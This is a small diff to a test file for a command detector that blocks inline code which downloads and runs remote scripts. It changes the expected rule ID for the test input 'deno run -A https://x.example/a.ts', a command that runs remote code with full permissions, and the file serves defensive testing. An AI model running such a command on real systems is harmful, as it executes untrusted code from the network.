@@ -150,7 +150,7 @@ describe('inline interpreter code that fetches and evaluates', () => {
   ])('allows Add-Type source that does not both download and run: %s', (text, shell) => notDownloadExecute(text, shell));
 
   it('blocks deno run of a URL', () => {
-    blocksAs('deno run -A https://x.example/a.ts', 'bash', 'dl.deno-url');
+    blocksAs('deno run -A https://x.example/a.ts', 'bash', 'dl.script-url');
   });
 
   it.each([
